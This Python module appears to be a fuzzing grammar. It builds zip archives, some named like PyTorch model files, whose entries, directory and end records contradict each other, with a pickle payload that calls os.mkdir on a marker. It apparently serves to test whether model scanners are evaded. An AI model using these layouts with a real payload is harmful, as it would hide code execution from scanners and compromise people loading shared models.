"""Zip archives in which every part may say something else: entries, directory, and the records at the end.

The parts and their order are those of PKWARE's APPNOTE.TXT 6.3.10 (4.3.6), the fields written out one by one.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace

from attack.grammar import Choices, Files, Grammar
from attack.grammars.archives import DATA, HONEST, Entry, npy_before, zipped
from attack.grammars.calls import MARK

PAYLOAD = b"\x80\4cos\nmkdir\n(V" + MARK.encode() + b"\ntR."


@dataclass(frozen=True)
class Part:
    """An entry and how it is described: `central` is what the directory says of it, None: nothing."""

    name: bytes
    data: bytes
    method: int = 0
    flags: int = 0
    extra: bytes = b""
    sizes: tuple[int, int] | None = None
    checksum: int | None = None
    central: Part | None = None
    listed: bool = True

    @property
    def packed(self) -> bytes:
        """The data as it is stored."""
        if self.method != 8:
            return self.data
        deflater = zlib.compressobj(wbits=-15)
        return deflater.compress(self.data) + deflater.flush()

    def facts(self) -> bytes:
        """The fields that an entry and the directory have in common (4.3.7, 4.3.12)."""
        packed, size = self.sizes or (len(self.packed), len(self.data))
        checksum = zlib.crc32(self.data) if self.checksum is None else self.checksum
        return struct.pack("<HHHHIII", self.flags, self.method, 0, 33, checksum, packed, size)


ENTRY = Part(b"archive/data.pkl", PAYLOAD)
UNICODE = struct.pack("<BI", 1, zlib.crc32(b"archive/note.txt")) + DATA.encode()  # 4.6.9: another name


def _extra(kind: int, data: bytes) -> bytes:
    return struct.pack("<HH", kind, len(data)) + data


ENTRIES: Mapping[str, Callable[[Part], Part]] = {
    "plain": lambda part: part,
    "deflated": lambda part: replace(part, method=8),
    "described": lambda part: replace(part, flags=8, sizes=(0, 0), checksum=0, central=part),
    "described-sizes": lambda part: replace(part, flags=8, central=replace(part, flags=8)),
    "utf-8": lambda part: replace(part, flags=0x800),
    "utf-8-in-directory": lambda part: replace(part, central=replace(part, flags=0x800)),
    "encrypted-in-entry": lambda part: replace(part, flags=1, central=part),
    "encrypted-in-directory": lambda part: replace(part, central=replace(part, flags=1)),
    "masked-in-entry": lambda part: replace(part, flags=0x2000, central=part),
    "sizes-zero": lambda part: replace(part, sizes=(0, 0), central=part),
    "sizes-large": lambda part: replace(part, sizes=(1 << 20, 1 << 20), central=part),
    "sizes-64": lambda part: replace(
        part, sizes=(0xFFFFFFFF, 0xFFFFFFFF), extra=_extra(1, struct.pack("<QQ", len(part.data), len(part.packed)))
    ),
    "sizes-64-in-entry": lambda part: replace(
        part,
        sizes=(0xFFFFFFFF, 0xFFFFFFFF),
        extra=_extra(1, struct.pack("<QQ", len(part.data), len(part.packed))),
        central=part,
    ),
    "short-in-directory": lambda part: replace(part, central=replace(part, sizes=(len(part.data) - 1,) * 2)),
    "method-in-directory": lambda part: replace(part, method=8, central=replace(part, sizes=(len(part.data),) * 2)),
    "checksum-in-entry": lambda part: replace(part, checksum=1, central=part),
    "checksum-in-directory": lambda part: replace(part, central=replace(part, checksum=1)),
    "name-in-entry": lambda part: replace(part, name=b"archive/note.txt", central=part),
    "name-in-directory": lambda part: replace(part, central=replace(part, name=b"archive/note.txt")),
    "name-unicode": lambda part: replace(part, name=b"archive/note.txt", extra=_extra(0x7075, UNICODE)),
    "name-unicode-in-directory": lambda part: replace(
        part,
        name=b"archive/note.txt",
        central=replace(part, name=b"archive/note.txt", extra=_extra(0x7075, UNICODE)),
    ),
    "extra-junk": lambda part: replace(part, extra=b"xx\4\0abcdjunk"),
    "extra-long": lambda part: replace(part, extra=_extra(0x4242, bytes(60_000))),
    "extra-in-entry": lambda part: replace(part, extra=_extra(0x4242, bytes(9_000)), central=part),
    "unlisted": lambda part: replace(part, listed=False),
}
"""How the entry with the payload is written, by its name."""

PLACES: Mapping[str, Callable[[Part], list[Part]]] = {
    "first": lambda part: [part, *_others()],
    "last": lambda part: [*_others(), part],
    "alone": lambda part: [part],
    "again": lambda part: [replace(ENTRY, data=HONEST), *_others(), part],
    "before-honest": lambda part: [part, *_others(), replace(ENTRY, data=HONEST)],
    "behind-honest-unlisted": lambda part: [part, *_others(), replace(ENTRY, data=HONEST, listed=False)],
    "in-an-entry": lambda part: [Part(b"archive/blob", _local(part)), *_others()],
}
"""Where among the entries it is, by its name."""


def _others() -> list[Part]:
    return [Part(b"archive/version", b"3\n"), Part(b"archive/data/0", bytes(64))]


def _local(part: Part) -> bytes:
    head = b"PK\3\4\x14\0" + part.facts() + struct.pack("<HH", len(part.name), len(part.extra))
    body = head + part.name + part.extra + part.packed
    if part.flags & 8:
        body += b"PK\7\x08" + (part.central or part).facts()[8:]
    return body


def _central(part: Part, offset: int) -> bytes:
    said = part.central or part
    sizes = struct.pack("<HHHHHII", len(said.name), len(said.extra), 0, 0, 0, 0, offset)
    return b"PK\1\2\x14\0\x14\0" + said.facts() + sizes + said.name + said.extra


@dataclass(frozen=True)
class Laid:
    """The bytes up to the directory's end, where the directory begins, and how many entries it has."""

    body: bytes
    start: int
    count: int

    @property
    def size(self) -> int:
        """The directory's length."""
        return len(self.body) - self.start

    def end(self, comment: bytes = b"", **other: int) -> bytes:
        """The record at the end (4.3.16); `other` are fields that say something else."""
        count, size, start = (other.get(name, getattr(self, name)) for name in ("count", "size", "start"))
        disk = other.get("disk", 0)
        return b"PK\5\6" + struct.pack("<HHHHIIH", disk, disk, count, count, size, start, len(comment)) + comment

    def end_64(self) -> bytes:
        """The zip64 record (4.3.14) and its locator (4.3.15)."""
        record = b"PK\6\6" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, self.count, self.count, self.size, self.start)
        return record + b"PK\6\7" + struct.pack("<IQI", 0, len(self.body), 1)


def _laid(parts: list[Part], before: bytes) -> Laid:
    body, offsets = before, []
    for part in parts:
        offsets.append(len(body))
        body += _local(part)
    listed = [(part, offset) for part, offset in zip(parts, offsets, strict=True) if part.listed]
    return Laid(body + b"".join(_central(*each) for each in listed), len(body), len(listed))


def _honest() -> bytes:
    return zipped([Entry(DATA, HONEST)])


def _second_directory(laid: Laid) -> bytes:
    """An honest directory that the end points to, and the other one that only the zip64 record knows."""
    honest = _laid([replace(ENTRY, data=HONEST)], laid.body)
    return honest.body + laid.end_64()[:-16] + struct.pack("<IQI", 0, len(honest.body), 1) + honest.end()


def _honest_in_64(laid: Laid) -> bytes:
    """The other way round: the zip64 record knows the honest directory."""
    honest = _laid([replace(ENTRY, data=HONEST)], laid.body)
    return honest.body + honest.end_64() + laid.end()


ENDS: Mapping[str, Callable[[Laid], bytes]] = {
    "plain": lambda laid: laid.body + laid.end(),
    "comment": lambda laid: laid.body + laid.end(b"comment"),
    "comment-long": lambda laid: laid.body + laid.end(bytes(65_535)),
    "comment-end": lambda laid: laid.body + laid.end(b"PK\5\6" + bytes(18)),
    "comment-cut": lambda laid: laid.body + laid.end(b"comment")[:-3],
    "comment-honest": lambda laid: laid.body + laid.end(_honest()),
    "64": lambda laid: laid.body + laid.end_64() + laid.end(count=0xFFFF, size=0xFFFFFFFF, start=0xFFFFFFFF),
    "64-needless": lambda laid: laid.body + laid.end_64() + laid.end(),
    "64-other-directory": _second_directory,
    "64-honest-directory": _honest_in_64,
    "twice": lambda laid: laid.body + laid.end() + laid.end(),
    "empty-first": lambda laid: laid.body + laid.end(count=0, size=0) + laid.end(),
    "empty-last": lambda laid: laid.body + laid.end() + laid.end(count=0, size=0),
    "count-more": lambda laid: laid.body + laid.end(count=laid.count + 1),
    "count-less": lambda laid: laid.body + laid.end(count=0),
    "size-more": lambda laid: laid.body + laid.end(size=laid.size + 4),
    "start-zero": lambda laid: laid.body + laid.end(start=0),
    "disk": lambda laid: laid.body + laid.end(disk=1),
    "honest-behind": lambda laid: laid.body + laid.end() + _honest(),
    "gap": lambda laid: laid.body + b"gap" + laid.end(),
    "signature": lambda laid: laid.body + b"PK\5\5\4\0sign" + laid.end(),
}
"""What ends the archive, by its name."""

BEFORE: Mapping[str, bytes] = {
    "nothing": b"",
    "script": b"#!/bin/sh\nexit\n",
    "zeros": bytes(600),
    "zeros-long": bytes(70_000),
    "pickle": b"N.",
    "npy": npy_before(),
    "honest": _honest(),
    "local-header": _local(replace(ENTRY, data=HONEST)),
    "spanned": b"PK\7\x08",
    "end": b"PK\5\6" + bytes(18),
}
"""What stands before the archive, by its name."""

AFTER: Mapping[str, bytes] = {
    "nothing": b"",
    "newline": b"\n",
    "zeros": bytes(600),
    "zeros-long": bytes(66_000),
    "junk": b"junk behind the end",
}
"""What stands behind it, by its name."""

NAMES = ("model", "model.pt", "model.zip", "model.npz", "model.pkl", "pytorch_model.bin", "notes.txt")


def _compose(choices: Choices) -> Files:
    parts = PLACES[choices["place"]](ENTRIES[choices["entry"]](ENTRY))
    before = BEFORE[choices["before"]]
    if choices["offsets"] == "of-file":
        laid = _laid(parts, before)
        data = ENDS[choices["end"]](laid)
    else:
        data = before + ENDS[choices["end"]](_laid(parts, b""))
    return {choices["name"]: data + AFTER[choices["after"]]}


ZIPS = Grammar(
    "zip",
    {
        "entry": tuple(ENTRIES),
        "place": tuple(PLACES),
        "end": tuple(ENDS),
        "before": tuple(BEFORE),
        "offsets": ("of-file", "of-archive"),
        "after": tuple(AFTER),
        "name": NAMES,
    },
    _compose,
    ("torch-zip", "opened", "torch"),
)
